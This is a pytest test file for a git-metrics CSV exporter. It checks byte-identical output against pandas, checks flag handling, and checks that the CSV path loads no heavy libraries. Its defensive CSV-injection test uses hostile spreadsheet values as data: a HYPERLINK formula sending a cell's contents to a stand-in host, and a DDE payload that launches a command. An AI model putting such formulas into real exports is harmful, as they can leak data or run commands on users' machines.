"""`rca collect --git --out`: what it writes, and that writing a CSV needs no heavy library.

The CSV is written with the csv module, not pandas; it must be byte for byte what pandas
writes from the collector's tables (the format every earlier export had).
"""

from __future__ import annotations

import csv
import json
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from collectors.git import GitRules, RepoSpec, collect_repo
from tests.git_repos import messy_history

ROOT = Path(__file__).resolve().parent.parent


@pytest.fixture(scope="module")
def messy(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return messy_history(tmp_path_factory.mktemp("export") / "messy", steps=30, seed=7).path


@pytest.mark.parametrize(("level", "szz"), [("commit", True), ("week", True), ("day", False)])
def test_csv_is_byte_for_byte_what_pandas_writes(messy: Path, tmp_path: Path, rca, level: str, szz: bool) -> None:
    out = tmp_path / f"{level}.csv"
    args = ["collect", "--git", str(messy), "--out", str(out), "--level", level, "--scope", "src", "--scope", "feature"]
    res = rca(*args, *([] if szz else ["--no-szz"]))
    assert res.code == 0, res.err
    got = collect_repo(RepoSpec(messy, "", None, None, ("src", "feature")),
                       GitRules(szz=szz, bucket="week" if level == "commit" else level))
    table = got.commits if level == "commit" else got.observations
    assert out.read_text(encoding="utf-8") == table.to_csv(index=False)
    assert f"wrote {out}: {len(table)} rows from {len(got.commits)} commits" in res.out
    if level == "commit":  # the odd author name survives the round trip
        assert 'Zoë "Z", Ng' in set(pd.read_csv(out).author_name)


def test_no_szz_leaves_szz_figures_out(messy: Path, tmp_path: Path, rca) -> None:
    on, off = tmp_path / "on.csv", tmp_path / "off.csv"
    assert rca("collect", "--git", str(messy), "--out", str(on)).code == 0
    assert rca("collect", "--git", str(messy), "--out", str(off), "--no-szz").code == 0
    metrics_on, metrics_off = set(pd.read_csv(on).metric), set(pd.read_csv(off).metric)
    assert metrics_on - metrics_off == {"bug_introducing_commits_count", "bug_introducing_commit_ratio",
                                        "time_to_fix_seconds", "median_fix_lag_seconds"}
    res = rca("collect", "--no-szz")
    assert res.code == 2 and "only go with --git" in res.err


_PROBE = """
import json, sys
from rca.cli import main
try:
    main(sys.argv[1:])
except SystemExit as exc:
    assert not exc.code, exc.code
print(json.dumps(sorted(sys.modules)))
"""


@pytest.mark.parametrize("level", ["week", "commit"])
def test_a_csv_export_loads_no_heavy_library(messy: Path, tmp_path: Path, level: str) -> None:
    """Start-up is most of the command's time on a real history: the CSV path imports no table,
    SQL, graph, Arrow, GitPython or terminal library."""
    cfg = tmp_path / "rca.yaml"
    cfg.write_text("git: {szz: false}\n")
    out = subprocess.run([sys.executable, "-c", _PROBE, "collect", "--git", str(messy), "--out",
                          str(tmp_path / "x.csv"), "--level", level, "--config", str(cfg)],
                         cwd=ROOT, capture_output=True, text=True, check=True)
    loaded = {m.split(".")[0] for m in json.loads(out.stdout.splitlines()[-1])}
    assert not loaded & {"pandas", "numpy", "pyarrow", "sqlalchemy", "networkx", "git", "rich", "dowhy", "scipy"}
    assert (tmp_path / "x.csv").read_text().count("\n") > 10


FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)"]


def test_a_formula_in_a_text_cell_is_neutralised_in_csv_but_kept_in_parquet(tmp_path: Path, rca) -> None:
    """OWASP's advice for CSV injection: a cell a spreadsheet would run gets a leading quote."""
    from tests.git_repos import Repo

    r = Repo(tmp_path / "=cmd|' -C calc'!A0")  # the label (a scope) comes from the folder's name
    for i, name in enumerate(FORMULAS):
        r.commit(f"feat: {i}", {"a.py": f"a = {i}\n"}, author=(name, f"{'=' if i == 0 else ''}p{i}@example.com"),
                 when=f"2024-01-0{i + 1}T12:00:00+00:00")
    r.commit("feat: cr", {"a.py": "cr\n"}, author=("Mal\rlory =1+1", "m@example.com"), when="2024-01-06T12:00:00+00:00")
    csv_out, pq_out = tmp_path / "c.csv", tmp_path / "c.parquet"
    for out in (csv_out, pq_out):
        assert rca("collect", "--git", str(r.path), "--out", str(out), "--level", "commit").code == 0
    with csv_out.open(newline="", encoding="utf-8") as fh:  # as a spreadsheet reads it: \r ends a row unless quoted
        got = pd.DataFrame(list(csv.DictReader(fh)))
    assert list(got.author_name) == [*(f"'{n}" for n in FORMULAS), "Mal\rlory =1+1"]
    assert got.author[0] == "'=p0@example.com" and got.author[1] == "p1@example.com"
    assert set(got.repo) == {"'=cmd|' -C calc'!A0"} and got.lines_added.tolist() == ["1"] * 5
    raw = pd.read_parquet(pq_out)
    assert list(raw.author_name) == [*FORMULAS, "Mal\rlory =1+1"] and set(raw.repo) == {"=cmd|' -C calc'!A0"}
    for label in ("\tTab", "\rCR"):  # git strips a leading tab from a name; a label (the folder's name) keeps it
        other = Repo(tmp_path / label)
        other.commit("feat: x", {"a.py": "a\n"})
        week = tmp_path / "w.csv"
        assert rca("collect", "--git", str(other.path), "--out", str(week)).code == 0
        with week.open(newline="", encoding="utf-8") as fh:
            rows = list(csv.DictReader(fh))
        assert {row["scope"] for row in rows} == {f"'{label}"} and len(rows) > 5
